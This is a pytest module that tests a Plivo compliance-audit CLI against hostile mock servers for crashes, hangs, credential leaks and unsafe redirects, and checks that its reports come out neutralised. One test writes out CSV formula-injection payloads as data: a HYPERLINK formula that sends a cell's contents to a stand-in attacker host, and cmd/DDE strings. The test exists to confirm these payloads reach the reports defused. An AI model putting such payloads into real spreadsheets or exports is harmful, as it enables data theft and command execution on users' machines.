"""``python -m audits`` against every hostile target: no crash, hang, leak, or PASSED from partial data.

Each catalogue entry is served on loopback and audited by a real subprocess, as a user
would run it (credentials in PLIVO_AUTH_ID / PLIVO_AUTH_TOKEN). For every entry:

* the reports are all written, valid (JSON, XML 1.0, UTF-8) and neutralised (no live
  script in the HTML, no formula in the CSV), whatever the outcome;
* ``audit_expects == "exact"``: exit 0 or 1, complete, exactly the emulator's 60 numbers;
* ``audit_expects == "incomplete"``: exit 3, INCOMPLETE in stdout and every report, with a
  reason that names what went wrong (REASONS below);
* no spelling of the token (``openapi.redaction.forms``, any case) in stdout, stderr or any
  file of the out directory, the history database included; nothing reached the "other
  host" that redirects point to with credentials.

The audits run in a small thread pool: each test starts its own entry and the next few of
this worker's, so the module takes about a tenth of its serial time. Timeouts are small
(--timeout 2.5 per exchange, 3 attempts) and the subprocess limit generous: it only
catches a hang.
"""

from __future__ import annotations

import base64
import csv
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from emulator.hostile import CATALOGUE, serve_hostile
from openapi.redaction import forms

ROOT = Path(__file__).parents[2]
AUTH_ID = "MAHOSTILEAUDIT00TEST"
TOKEN = "Hostile-Audit-Token-0123456789-AbCdEfGhIjKlMn"
NUMBERS = 60
PARALLEL = 4
SUBPROCESS_TIMEOUT_S = 180
AUDIT_ARGS = [
    "--timeout",
    "2.5",
    "--attempts",
    "3",
    "--max-wait",
    "1",
    "--deadline",
    "90",
    "--no-rate-limit",
    "--concurrency",
    "4",
    "--no-progress",
]

# What an INCOMPLETE audit must give as (one of) its reasons, per entry.
REASONS: dict[str, str] = {
    "total_count_too_small": r"meta\.next pointed past it and 20 more number\(s\)",
    "total_count_too_big": r"came back empty although total_count is 100",
    "total_count_runaway_1e7": r"total_count is 10000000, outside 0 to 1,000,000",
    "total_count_runaway_1e12": r"total_count is 1000000000000, outside",
    "total_count_negative": r"total_count is -1, outside",
    "total_count_string": r"meta\.total_count is a string",
    "total_count_5000_digits": r"not JSON",
    "total_count_changes": r"total_count changed during the crawl|came back empty",
    "duplicate_pages": r"distinct numbers read but total_count is 60",
    "shifted_pages": r"58 distinct numbers read but total_count is 60|meta\.next pointed past it and 1 more",
    "duplicate_within_page": r"distinct numbers read but total_count is 60",
    "slow_headers": r"no complete answer within 2\.5 s",
    "no_answer": r"no complete answer within 2\.5 s",
    "slow_drip_body": r"no complete answer within 2\.5 s",
    "reset_before_answer": r"could not be read: .*(Error|reset)",
    "reset_mid_body": r"could not be read: .*(Error|reset)",
    "truncated_body": r"could not be read: .*(Error|incomplete|closed)",
    "content_length_too_long": r"could not be read: .*(Error|incomplete|closed)",
    "content_length_too_short": r"could not be read: .*(not JSON|Error)",
    "html_200": r"not JSON \(text/html",
    "invalid_json_200": r"not JSON \(application/json",
    "json_array_200": r"body is a list",
    "deeply_nested_json": r"not JSON",
    "region_int": r"21 number\(s\) have compliance fields missing or unreadable",
    "sub_account_list": r"21 number\(s\) have compliance fields missing or unreadable",
    "booleans_as_strings": r"60 number\(s\) have compliance fields missing or unreadable",
    "status_as_object": r"60 number\(s\) have compliance fields missing or unreadable",
    "number_int": r"21 listed object\(s\) had no readable number",
    "objects_not_list": r"objects is an object",
    "meta_not_object": r"meta is a list",
    "only_number": r"60 number\(s\) have compliance fields missing or unreadable",
    "missing_number_type": r"60 number\(s\) have compliance fields missing or unreadable",
    "missing_region_some": r"15 number\(s\) have compliance fields missing or unreadable",
    "invalid_utf8": r"not JSON",
    "gzip_bomb": r"exceeded 8,388,608 bytes \(decompressed\)",
    "oversized_body": r"exceeded 8,388,608 bytes \(decompressed\)",
    "header_flood": r"could not be read: .*Error",
    "redirect_other_host": r"HTTP 302 redirect to .* \(another host\): redirects are not followed",
    "redirect_loop": r"HTTP 307 redirect to .*: redirects are not followed",
    "redirect_same_host": r"HTTP 301 redirect to '/v2/.*: redirects are not followed",
    "unauthorized_mid_crawl": r"HTTP 401 .*check PLIVO_AUTH_ID and PLIVO_AUTH_TOKEN",
    "forbidden_mid_crawl": r"HTTP 403 ",
    "rate_limited_forever": r"HTTP 429 .*gave up after 3 attempts",
    "server_error_always": r"HTTP 503 .*gave up after 3 attempts",
    "echo_authorization_500": r"HTTP 500 \(upstream failed for Authorization: Basic \*\*\*",
    "token_lowercase_in_error": r"HTTP 400 \(bad token \*\*\* for MAHOSTILEAUDIT00TEST\)",
    "token_encoded_in_error": r"HTTP 502 \(proxy: \*\*\* / \*\*\* / .*\*\*\*",
    "token_in_redirect_userinfo": r"redirect to 'http://MAHOSTILEAUDIT00TEST:\*\*\*@.*\(another host\)",
}
# What an exact audit must say in its notes, per entry.
NOTES: dict[str, str] = {
    "type_defaults_to_local": r"the unfiltered list did not show \d+ tollfree number\(s\)",
    "rate_limited_absurd_retry_after": r"asked to wait 1e\+09 s .*capped at 1 s",
    "next_loops": r"meta\.next on the last page pointed past total_count",
}


@dataclass
class Run:
    name: str
    code: int
    stdout: str
    stderr: str
    out: Path
    decoy_authorized: int
    """Requests that reached the other host carrying an Authorization header."""

    @property
    def document(self) -> dict[str, Any]:
        loaded: dict[str, Any] = json.loads((self.out / "audit.json").read_text(encoding="utf-8"))
        return loaded

    def __repr__(self) -> str:
        return f"<Run {self.name} exit {self.code}>"


def audit(name: str, out: Path) -> Run:
    env = {**os.environ, "PLIVO_AUTH_ID": AUTH_ID, "PLIVO_AUTH_TOKEN": TOKEN}
    with serve_hostile(name, auth_id=AUTH_ID, auth_token=TOKEN, numbers=NUMBERS) as base_url:
        done = subprocess.run(
            [sys.executable, "-m", "audits", "--base-url", base_url, "--out", str(out), *AUDIT_ARGS],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            encoding="utf-8",
            errors="strict",
            timeout=SUBPROCESS_TIMEOUT_S,
            check=False,
        )
        authorized = sum(1 for r in base_url.decoy_requests if r.header("authorization"))
    return Run(name, done.returncode, done.stdout, done.stderr, out, authorized)


class Runner:
    """Starts each entry's audit with the next few of this worker's queued behind it."""

    def __init__(self, names: list[str], root: Path) -> None:
        self.names = names
        self.root = root
        self.pool = ThreadPoolExecutor(PARALLEL, thread_name_prefix="hostile-audit")
        self.futures: dict[str, Future[Run]] = {}

    def submit(self, name: str) -> None:
        if name not in self.futures:
            self.futures[name] = self.pool.submit(audit, name, self.root / name)

    def result(self, name: str) -> Run:
        self.submit(name)
        if name in self.names:
            start = self.names.index(name)
            for following in self.names[start + 1 : start + PARALLEL]:
                self.submit(following)
        return self.futures[name].result()

    def close(self) -> None:
        self.pool.shutdown(wait=True, cancel_futures=True)


def _selected(request: pytest.FixtureRequest) -> list[str]:
    """The entries this session (this xdist worker) runs from this module, in order."""
    names = []
    for item in request.session.items:
        if isinstance(item, pytest.Function) and item.module is request.module:
            callspec = getattr(item, "callspec", None)
            name = callspec.params.get("name") if callspec is not None else None
            if isinstance(name, str):
                names.append(name)
    return names


@pytest.fixture(scope="module")
def runner(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Runner]:
    runner = Runner(_selected(request), tmp_path_factory.mktemp("hostile-audits"))
    yield runner
    runner.close()


def leaks(text: str) -> list[str]:
    lowered = text.lower()
    return [form for form in forms(TOKEN, AUTH_ID) if form.lower() in lowered]


def every_output(run: Run) -> dict[str, str]:
    texts = {"stdout": run.stdout, "stderr": run.stderr}
    for path in sorted(run.out.iterdir()):
        data = path.read_bytes()
        texts[path.name] = data.decode("latin-1") if path.suffix == ".sqlite" else data.decode("utf-8")
    return texts


def test_the_reason_table_covers_every_incomplete_entry() -> None:
    incomplete = {n for n, h in CATALOGUE.items() if h.audit_expects == "incomplete"}
    assert set(REASONS) == incomplete
    assert set(NOTES) <= {n for n, h in CATALOGUE.items() if h.audit_expects == "exact"}


@pytest.mark.parametrize("name", sorted(CATALOGUE))
def test_audit_of_a_hostile_target(name: str, runner: Runner) -> None:
    run = runner.result(name)
    expects = CATALOGUE[name].audit_expects

    # Never a traceback; the reports are always written and readable.
    assert "Traceback" not in run.stderr, run.stderr[-3000:]
    assert {"audit.json", "audit.html", "audit.xml", "audit.csv"} <= {p.name for p in run.out.iterdir()}
    doc = run.document
    outputs = every_output(run)  # every text file decodes as strict UTF-8

    # No spelling of the token anywhere; nothing with credentials went to another host.
    leaked = {where: found for where, text in outputs.items() if (found := leaks(text))}
    assert not leaked, f"{name}: the token leaked: {leaked}"
    assert run.decoy_authorized == 0, f"{name}: credentials were sent to another host"

    # What a server sent is neutralised in every format.
    ET.parse(run.out / "audit.xml")  # noqa: S314 - our own report; proves it is well-formed XML
    for where, text in outputs.items():
        if not where.endswith(".sqlite"):
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text), (
                f"{name}: control character in {where}"
            )
    html = outputs["audit.html"]
    assert html.count("</script>") == 2, f"{name}: injected script element in audit.html"
    assert "<script>alert" not in html
    with (run.out / "audit.csv").open(newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), f"{name}: formula cell {cell!r}"

    if expects == "exact":
        assert run.code in (0, 1), f"{name}: exit {run.code}\n{run.stdout}\n{run.stderr[-2000:]}"
        assert doc["complete"] is True, doc["incomplete_reasons"]
        assert doc["status"] in ("PASSED", "FAILED")
        assert doc["numbers_read"] == doc["total_count"] == NUMBERS
        if name in NOTES:
            assert any(re.search(NOTES[name], n) for n in doc["notes"]), doc["notes"]
        return

    assert run.code == 3, (
        f"{name}: exit {run.code}, expected 3 (INCOMPLETE)\n{run.stdout}\n{run.stderr[-2000:]}"
    )
    assert doc["status"] == "INCOMPLETE"
    assert doc["complete"] is False
    reasons = doc["incomplete_reasons"]
    assert reasons
    assert any(re.search(REASONS[name], r) for r in reasons), f"{name}: reasons {reasons}"
    assert run.stdout.startswith("audit INCOMPLETE")
    for reason in reasons:
        assert f"INCOMPLETE: {reason}" in run.stdout
    assert 'id="status">INCOMPLETE<' in html
    assert "INCOMPLETE inventory" in html
    assert (
        "\nINCOMPLETE," in outputs["audit.csv"].replace("\r\n", "\n")
        or ",INCOMPLETE," in outputs["audit.csv"]
    )
    complete_case = ET.parse(run.out / "audit.xml").getroot().find(".//testcase[@name='complete']")  # noqa: S314
    assert complete_case is not None
    assert complete_case.find("error") is not None


def test_formula_and_script_payloads_reach_the_reports_neutralised(runner: Runner) -> None:
    formulas = runner.result("formula_injection")
    with (formulas.out / "audit.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    subaccounts = {r["subaccount"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in subaccounts
    assert "'+cmd|' /C calc'!A0" in subaccounts
    assert "'-2+3+cmd" in subaccounts
    assert "'@SUM(1+1)*cmd" in subaccounts
    scripts = runner.result("script_injection")
    html = (scripts.out / "audit.html").read_text(encoding="utf-8")
    assert "&lt;/table&gt;&lt;script&gt;" in html  # the subaccount, escaped in the summary table


def test_the_echoed_credentials_really_were_in_what_the_server_sent() -> None:
    # Guards the leak checks above: the token reached the audit in each of these spellings.
    pair = base64.b64encode(f"{AUTH_ID}:{TOKEN}".encode()).decode()
    assert any(pair.startswith(f) or f in pair for f in forms(TOKEN, AUTH_ID))
    assert TOKEN.lower() != TOKEN
    assert leaks(f"Basic {pair}")
    assert leaks(TOKEN.swapcase())
